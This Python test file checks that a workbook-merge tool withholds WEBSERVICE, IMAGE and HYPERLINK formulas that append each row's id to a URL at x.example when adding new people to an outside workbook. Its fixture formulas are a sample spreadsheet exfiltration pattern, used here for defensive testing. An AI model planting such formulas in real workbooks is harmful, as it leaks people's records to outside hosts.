"""Formulas of a table that can send its rows away are not given to new people."""

from __future__ import annotations

import pytest

from tests.ooxml.update_files import ANN, BOB, EVE, HEADER, SHEET, book, parts, updated
from workbook.merge.model import TableMemory

TITLES = (*HEADER, "photo")
ROWS = [(ANN.id, "Ann", None, "user", None), (BOB.id, "Bob", None, "user", None)]


def with_formula(text: str) -> bytes:
    return book(ROWS, TITLES, formulas={"photo": text})


@pytest.mark.parametrize("function", ["_xlfn.WEBSERVICE", "_xlfn.IMAGE", "HYPERLINK"])
def test_a_workbook_of_somebody_else_sends_no_new_people_away(function: str) -> None:
    data = with_formula(f'{function}("https://x.example/"&Contacts[[#This Row],[id]])')
    after, report = updated(data, ANN, BOB, EVE)
    assert b"x.example" not in parts(after)[SHEET]
    assert any("no formula in photo: it can send" in notice for notice in report.notices)
    assert not any("not clear which one" in notice for notice in report.notices)


def test_a_workbook_that_we_made_gets_its_users_formulas() -> None:
    data = with_formula('HYPERLINK("https://x.example/"&Contacts[[#This Row],[id]])')
    after, report = updated(data, ANN, BOB, EVE, memory=TableMemory(made=True))
    assert b"x.example" in parts(after)[SHEET]
    assert not any("can send" in notice for notice in report.notices)


def test_formulas_that_send_nothing_are_filled_as_before() -> None:
    after, report = updated(with_formula("LEN(Contacts[[#This Row],[name]])"), ANN, BOB, EVE)
    assert b"LEN(" in parts(after)[SHEET]
    assert not any("can send" in notice for notice in report.notices)
